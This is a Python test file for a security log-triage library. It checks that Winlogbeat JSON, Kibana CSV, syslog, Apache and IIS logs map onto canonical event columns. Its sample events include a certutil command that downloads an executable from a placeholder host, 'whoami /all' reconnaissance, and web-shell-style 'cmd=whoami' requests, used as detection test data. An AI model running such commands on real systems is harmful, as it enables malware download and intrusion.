"""ECS/Winlogbeat JSON and the text-log readers land on the same canonical columns as EVTX."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd

from asisdk.pipeline import load_events
from asisdk.pipeline._columns import detect_columns, with_event_text
from asisdk.schema import normalise_events

# Two Winlogbeat 8 events as Elastic ships them (nested objects, ECS names beside winlog.*).
WINLOGBEAT = [
    {
        "@timestamp": "2024-03-01T10:00:00.123Z",
        "agent": {"type": "winlogbeat", "hostname": "ws1"},
        "host": {"name": "ws1.corp.example", "hostname": "ws1"},
        "user": {"name": "alice", "domain": "CORP"},
        "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon", "kind": "event"},
        "message": "Process Create:\nRuleName: -\nImage: C:\\Windows\\System32\\cmd.exe",
        "process": {
            "command_line": "cmd.exe /c whoami /all",
            "executable": "C:\\Windows\\System32\\cmd.exe",
            "pid": 4242,
            "entity_id": "{11111111-2222-3333-4444-555555555555}",
            "parent": {
                "executable": "C:\\Windows\\explorer.exe",
                "command_line": "C:\\Windows\\Explorer.EXE",
                "pid": 1000,
            },
        },
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "event_id": 1,
            "record_id": 9001,
            "computer_name": "ws1.corp.example",
        },
    },
    {
        "@timestamp": "2024-03-01T10:00:05Z",
        "host": {"name": "ws1.corp.example"},
        "event": {"code": "3"},
        "process": {"executable": "C:\\Windows\\System32\\rundll32.exe", "pid": 4243},
        "source": {"ip": "10.0.0.5", "port": 50000},
        "destination": {"ip": "192.0.2.80", "port": 443},
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 3},
    },
]


def _write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_nested_winlogbeat_json_is_detected_without_column(tmp_path: Path) -> None:
    path = _write(tmp_path, "winlogbeat.ndjson", "".join(json.dumps(e) + "\n" for e in WINLOGBEAT))
    frame = with_event_text(load_events([path]).frame)
    columns = detect_columns(frame)
    assert columns.text[:2] == ("process.command_line", "process.parent.command_line")
    assert "message" in columns.text
    assert columns.time == "@timestamp"
    assert columns.host == "host.name"
    assert set(columns.ip) == {"source.ip", "destination.ip"}
    rows = normalise_events(frame)
    first, second = rows.iloc[0], rows.iloc[1]
    assert first["asi_command_line"] == "cmd.exe /c whoami /all"
    assert first["asi_parent_image"] == "C:\\Windows\\explorer.exe"
    assert (first["asi_process_id"], first["asi_parent_process_id"]) == (4242, 1000)
    assert first["asi_user"] == "alice"
    assert first["asi_event_id"] == 1
    assert first["asi_record_id"] == 9001
    assert first["asi_time"] == pd.Timestamp("2024-03-01T10:00:00.123Z")
    assert (second["asi_src_ip"], second["asi_dst_ip"], second["asi_dst_port"]) == (
        "10.0.0.5",
        "192.0.2.80",
        443,
    )


def test_flat_dotted_ecs_export_is_detected(tmp_path: Path) -> None:
    """A CSV export from Kibana: dotted ECS names as the header."""
    path = _write(
        tmp_path,
        "kibana.csv",
        "@timestamp,host.hostname,user.name,process.executable,process.command_line\n"
        "2024-03-01T10:00:00Z,ws2,bob,C:\\Windows\\System32\\certutil.exe,"
        "certutil -urlcache -f http://192.0.2.9/a.exe a.exe\n",
    )
    frame = load_events([path]).frame
    columns = detect_columns(frame)
    assert columns.text == ("process.command_line",)
    assert (columns.time, columns.host) == ("@timestamp", "host.hostname")
    row = normalise_events(frame).iloc[0]
    assert (row["asi_host"], row["asi_user"]) == ("ws2", "bob")
    assert row["asi_process_image"].endswith("certutil.exe")


SYSLOG = (
    "<38>Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186\n"
    "<86>Dec 10 07:02:47 LabSZ sshd[24203]: Connection closed by 212.47.254.145 [preauth]\n"
)
ACCESS = (
    '203.0.113.9 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif?cmd=whoami '
    'HTTP/1.0" 200 2326 "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"\n'
)
IIS = (
    "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
    "#Date: 2024-05-01 10:00:00\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
    "2024-05-01 10:00:01 10.0.0.10 GET /owa/auth.owa cmd=whoami 443 CORP\\bob 198.51.100.7 "
    "Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15\n"
    "2024-05-01 10:00:02 10.0.0.10 GET /owa/ - 443 - 198.51.100.8 - - 302 0 0 3\n"
)


def test_syslog_canonical_columns(tmp_path: Path) -> None:
    rows = normalise_events(load_events([_write(tmp_path, "auth.log", SYSLOG)]).frame)
    first = rows.iloc[0]
    assert first["asi_host"] == "LabSZ"
    assert first["asi_provider"] == "sshd"
    assert first["asi_process_id"] == 24200
    assert first["asi_message"] == "Invalid user webmaster from 173.234.31.186"
    assert rows["asi_time"].notna().all()
    assert detect_columns(rows).text == ("asi_message",)


def test_access_log_canonical_columns(tmp_path: Path) -> None:
    row = normalise_events(load_events([_write(tmp_path, "access.log", ACCESS)]).frame).iloc[0]
    assert row["asi_time"] == pd.Timestamp("2000-10-10T20:55:36Z")
    assert (row["asi_src_ip"], row["asi_user"]) == ("203.0.113.9", "frank")
    assert row["asi_url"] == "/apache_pb.gif?cmd=whoami"
    assert row["asi_user_agent"] == "Mozilla/4.08 [en] (Win98; I ;Nav)"
    assert row["asi_message"].startswith("GET /apache_pb.gif?cmd=whoami HTTP/1.0 200")
    assert pd.isna(row["asi_protocol"])  # HTTP/1.0 is not a transport protocol


def test_iis_canonical_columns(tmp_path: Path) -> None:
    rows = normalise_events(load_events([_write(tmp_path, "u_ex240501.log", IIS)]).frame)
    first, second = rows.iloc[0], rows.iloc[1]
    assert first["asi_time"] == pd.Timestamp("2024-05-01T10:00:01Z")
    assert (first["asi_src_ip"], first["asi_dst_ip"], first["asi_dst_port"]) == (
        "198.51.100.7",
        "10.0.0.10",
        443,
    )
    assert first["asi_user"] == "CORP\\bob"
    assert first["asi_url"] == "/owa/auth.owa?cmd=whoami"
    assert second["asi_url"] == "/owa/"
    assert first["asi_user_agent"] == "Mozilla/5.0 (Windows NT 10.0)"


def test_run_triage_adds_the_canonical_columns_for_every_input_kind(
    tmp_path: Path, shared_data: Path
) -> None:
    from asisdk.executors import InlineExecutor
    from asisdk.pipeline import run_triage
    from asisdk.schema import CANONICAL_COLUMNS

    evtx = next(iter(sorted((shared_data / "sigma" / "regression_data").rglob("*.evtx"))))
    inputs = {
        "syslog": _write(tmp_path, "auth.log", SYSLOG),
        "access": _write(tmp_path, "access.log", ACCESS),
        "iis": _write(tmp_path, "u_ex240501.log", IIS),
        "ecs": _write(tmp_path, "wlb.ndjson", "".join(json.dumps(e) + "\n" for e in WINLOGBEAT)),
        "evtx": evtx,
    }
    names = [c.name for c in CANONICAL_COLUMNS]
    for kind, path in inputs.items():
        result = run_triage(load_events([path]), executor=InlineExecutor())
        events = result.events
        assert set(names) <= set(events.columns), kind
        assert events["asi_time"].notna().all(), kind
        assert events["asi_time"].dtype == "datetime64[ns, UTC]", kind
    access = run_triage(load_events([inputs["access"]]), executor=InlineExecutor()).events
    assert access["asi_src_ip"].tolist() == ["203.0.113.9"]
    native = run_triage(load_events([evtx]), executor=InlineExecutor()).events
    assert native["asi_event_id"].notna().all()
    assert native["asi_host"].notna().all()
